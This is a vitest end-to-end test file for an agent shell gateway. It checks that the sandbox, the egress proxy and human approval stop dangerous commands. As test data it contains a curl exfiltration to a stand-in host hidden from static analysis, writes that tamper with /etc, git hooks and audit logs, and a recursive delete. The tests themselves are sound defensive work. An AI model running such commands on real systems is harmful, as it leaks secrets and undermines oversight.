// Issue 5 end to end: an SDK Client agent drives `tollgate serve --stdio` with built-in shell upstreams; the sandbox runs for real.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ElicitRequestSchema, type CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { configDir, runCli, stdioAgent, textOf, until, type StdioAgent } from '../helpers/gateway.js';
import { hostPidsRunning } from '../sandbox/harness.js';
import { commandIs, readJournal, storyOf, type JournalLine } from './audit-support/journal.js';

const PLANTED_TOKEN = 'planted-deploy-token-value-9f3c';
// The tollgate.json under test. One broad allow rule for every shell command: the sandbox, not policy, is under test.
// Policy still escalates what the rule cannot lower (see the "policy" test): the agent's person approves those.
const TOLLGATE = {
  rules: [{ id: 'e2e-shell', shell: ['*'], decision: 'allow', sandbox: 'workspace-write', justification: 'e2e: the writable sandbox is what these tests exercise' }],
  // The loopback test server is admitted by an explicit (non-wildcard) entry; everything under denied.test is blocked.
  network: { allowedDomains: ['127.0.0.1'], deniedDomains: ['*.denied.test'] },
  sandbox: { network: 'proxy' },
  // Inside the workspace on purpose: the data directory must stay read-only even inside a writable root.
  dataDir: './workspace/.tollgate',
};

describe('shell through the gateway, as an agent would use it', () => {
  let dir: string;
  let ws: string;
  let dataDir: string;
  let agent: StdioAgent;
  let srv: http.Server;
  let port: number;
  const hits: string[] = [];
  const asked: string[] = [];

  const exec = async (server: 'sh' | 'web', command: string, extra: Record<string, unknown> = {}) =>
    (await agent.client.callTool({ name: `${server}__exec`, arguments: { command, ...extra } })) as CallToolResult;
  const steps = (command: string): JournalLine[] => storyOf(readJournal(dataDir), commandIs(command)).steps;
  const decisionOf = (command: string) => steps(command).find((r) => r.name === 'tollgate.tool_decision');
  // A call's result is journaled just after the agent has it (written within the same I/O turn, synced ≤ 20 ms later).
  const resultOf = (command: string) => until(() => steps(command).find((r) => r.name === 'tollgate.tool_result'), `the tool_result of ${command}`);

  beforeAll(async () => {
    dir = configDir({ sh: { type: 'shell', roots: ['./workspace'] }, web: { type: 'shell', roots: ['./workspace'], network: 'proxy' } }, TOLLGATE);
    ws = join(dir, 'workspace');
    dataDir = join(ws, '.tollgate');
    execFileSync('git', ['init', '-q', ws]);
    mkdirSync(join(ws, 'build'));
    writeFileSync(join(ws, 'build', 'artifact.bin'), 'keep me');
    srv = http.createServer((req, res) => {
      hits.push(`${req.method} ${req.url}`);
      res.end('hello from the loopback test server\n');
    });
    await new Promise<void>((r) => srv.listen(0, '127.0.0.1', () => r()));
    port = (srv.address() as AddressInfo).port;
    agent = await stdioAgent(dir, { capabilities: { elicitation: { form: {} } } }, { DEPLOY_TOKEN: PLANTED_TOKEN, TOLLGATE_E2E_VISIBLE: 'x' });
    // The person behind the agent: approves everything once, except a recursive delete.
    agent.client.setRequestHandler(ElicitRequestSchema, async (req) => {
      asked.push(req.params.message);
      if (req.params.message.includes('rm -rf')) return { action: 'decline' };
      return { action: 'accept', content: { decision: 'approve_once' } };
    });
  });

  afterAll(async () => {
    await agent?.close();
    await new Promise<void>((r) => {
      srv.closeAllConnections();
      srv.close(() => r());
    });
  });

  it('lists one exec tool per shell entry; only the proxied one is open-world', async () => {
    const { tools } = await agent.client.listTools();
    const sh = tools.find((t) => t.name === 'sh__exec')!;
    const web = tools.find((t) => t.name === 'web__exec')!;
    expect(sh.annotations).toMatchObject({ destructiveHint: true, openWorldHint: false });
    expect(sh.description).toContain('There is no network access');
    expect(web.annotations).toMatchObject({ openWorldHint: true });
  });

  it('a write inside the workspace works (a redirect is escalated to the person first, who approves)', async () => {
    const cmd = 'echo made-in-sandbox > out.txt && cat out.txt';
    const r = await exec('sh', cmd);
    expect(r.isError).toBe(false);
    expect(textOf(r)).toContain('made-in-sandbox');
    expect(r.structuredContent).toMatchObject({ exitCode: 0, sandboxed: true });
    expect(readFileSync(join(ws, 'out.txt'), 'utf8')).toBe('made-in-sandbox\n');
    expect(asked.at(-1)).toContain('redirect > out.txt writes a file');
    expect(decisionOf(cmd)).toMatchObject({ decision: 'approved', source: 'user' });
  });

  it('even approved, writes to /etc, $HOME, .git/hooks and the audit/state directories fail', async () => {
    const targets = ['/etc/tollgate-e2e-probe', join(os.homedir(), 'tollgate-e2e-probe'), '.git/hooks/pre-commit', '.git/config', '.tollgate/audit/journal-000001.jsonl', '.tollgate/audit/planted.jsonl', '.tollgate/state/grants.json'];
    const before = readFileSync(join(dataDir, 'audit', 'journal-000001.jsonl'), 'utf8');
    for (const t of targets) {
      const cmd = `echo tampered >> '${t}'`;
      const r = await exec('sh', cmd);
      expect(r.isError, t).toBe(true);
      expect(textOf(r), t).toMatch(/Read-only file system|Permission denied|No such file or directory/); // the data dir is hidden (deny-read), and read-only
      // policy had approved it (a person did): the sandbox is what stopped it
      expect(decisionOf(cmd), t).toMatchObject({ decision: 'approved' });
    }
    expect(existsSync('/etc/tollgate-e2e-probe')).toBe(false);
    expect(existsSync(join(os.homedir(), 'tollgate-e2e-probe'))).toBe(false);
    expect(existsSync(join(ws, '.git/hooks/pre-commit'))).toBe(false);
    expect(readFileSync(join(ws, '.git/config'), 'utf8')).not.toContain('tampered');
    expect(existsSync(join(dataDir, 'audit', 'planted.jsonl'))).toBe(false);
    expect(readFileSync(join(dataDir, 'audit', 'journal-000001.jsonl'), 'utf8').startsWith(before)).toBe(true);
    expect(readFileSync(join(dataDir, 'audit', 'journal-000001.jsonl'), 'utf8')).not.toContain('tampered\n');
    const v = await runCli(['audit', 'verify', '--config', dir]);
    expect(v.stdout).toMatch(/^OK: \d+ records/);
  });

  it('the scrubbed environment hides a *_TOKEN planted in the gateway environment', async () => {
    const r = await exec('sh', 'env');
    expect(r.isError).toBe(false);
    expect(textOf(r)).toContain('PATH=');
    expect(textOf(r)).not.toContain('DEPLOY_TOKEN');
    expect(textOf(r)).not.toContain(PLANTED_TOKEN);
    expect(textOf(r)).not.toContain('TOLLGATE_E2E_VISIBLE'); // not on the allowlist either
  });

  it('with network off, a policy-allowed connection to a loopback server fails in the sandbox', async () => {
    const cmd = `curl -sS --max-time 5 http://127.0.0.1:${port}/direct`;
    const r = await exec('sh', cmd);
    expect(r.isError).toBe(true);
    expect(textOf(r)).toMatch(/Failed to connect|Couldn't connect/);
    expect(hits).not.toContain('GET /direct');
    expect(decisionOf(cmd)).toMatchObject({ decision: 'approved', source: 'rule' });
  });

  it('with network "proxy", curl reaches the admitted loopback server through the egress proxy, logged as a network decision', async () => {
    const cmd = `curl -sS --max-time 10 http://127.0.0.1:${port}/through-proxy`;
    const r = await exec('web', cmd);
    expect(textOf(r)).toContain('hello from the loopback test server');
    expect(r.isError).toBe(false);
    expect(hits).toContain('GET /through-proxy');
    const net = readJournal(dataDir).filter((e) => e.name === 'tollgate.network_decision' && e.host === '127.0.0.1');
    expect(net).toContainEqual(expect.objectContaining({ host: '127.0.0.1', port, protocol: 'http', method: 'GET', decision: 'allow' }));
    const bypass = await exec('web', `curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:${port}/bypass`);
    expect(bypass.isError).toBe(true);
    expect(hits).not.toContain('GET /bypass');
  });

  it('a denied domain is blocked by the proxy and journaled with host and port only, never the URL', async () => {
    // Hidden from static analysis behind a variable, so it reaches the proxy (a person approves the command itself).
    const cmd = 'U=http://exfil.denied.test/upload-path-e2e?leak=abc; curl -sS --max-time 10 "$U"; curl -sS --max-time 10 https://$(echo exfil.denied.test)/tls-path-e2e';
    const r = await exec('web', cmd);
    expect(textOf(r)).toContain('Tollgate blocked network access to exfil.denied.test:80 (http)');
    expect(textOf(r)).toMatch(/CONNECT tunnel failed, response 403/);
    const denied = readJournal(dataDir).filter((e) => e.name === 'tollgate.network_decision' && e.host === 'exfil.denied.test');
    expect(denied.map((d) => [d.port, d.decision])).toEqual([[80, 'deny'], [443, 'deny']]);
    for (const d of denied) {
      expect(JSON.stringify(d)).not.toMatch(/upload-path-e2e|tls-path-e2e|leak=abc|http:\/\//);
    }
  });

  it('a timeout kills the whole process tree', async () => {
    const cmd = '(sleep 913.371; echo survived > survived.txt) & sleep 913.372';
    const r = await exec('sh', cmd, { timeoutSeconds: 1 });
    expect(r.isError).toBe(true);
    expect(r.structuredContent).toMatchObject({ timedOut: true });
    expect(textOf(r)).toContain('Timed out after 1 s');
    expect(await hostPidsRunning('913.37')).toEqual([]);
    expect(existsSync(join(ws, 'survived.txt'))).toBe(false);
    expect(await resultOf(cmd)).toMatchObject({ isError: true });
  });

  it('huge output is capped, head and tail kept, also in what the journal records', async () => {
    const cmd = 'seq 1 300000';
    const r = await exec('sh', cmd);
    const t = textOf(r);
    expect(r.structuredContent).toMatchObject({ truncated: true, exitCode: 0 });
    expect(t).toMatch(/\[\.\.\. \d+ bytes omitted by Tollgate \(output cap\) \.\.\.\]/);
    expect(t).toContain('\n1\n2\n3\n');
    expect(t).toContain('299999\n300000');
    expect(t.length).toBeLessThan(140_000); // 64 KiB per stream by default; seq prints ~2 MB
    const result = await resultOf(cmd);
    expect(result.outputBytes).toBeLessThan(140_000);
  });

  it('policy: `rm -rf` goes to a person even with the allow-all rule; declining it is an isError denial', async () => {
    const cmd = 'rm -rf build';
    const n = asked.length;
    const r = await exec('sh', cmd);
    expect(r.isError).toBe(true);
    expect(textOf(r)).toMatch(/denied/i);
    expect(asked.length).toBe(n + 1);
    expect(asked.at(-1)).toContain('rm with recursive/force flags');
    expect(existsSync(join(ws, 'build', 'artifact.bin'))).toBe(true);
    const story = steps(cmd);
    expect(story.map((s) => s.name)).toEqual(['tollgate.tool_call', 'tollgate.policy_decision', 'tollgate.human_decision', 'tollgate.tool_decision']);
    expect(story[1]).toMatchObject({ decision: 'ask' });
    expect(story[2]).toMatchObject({ channel: 'form', decision: 'deny' });
    expect(story[3]).toMatchObject({ decision: 'denied', source: 'user' });
  });
});
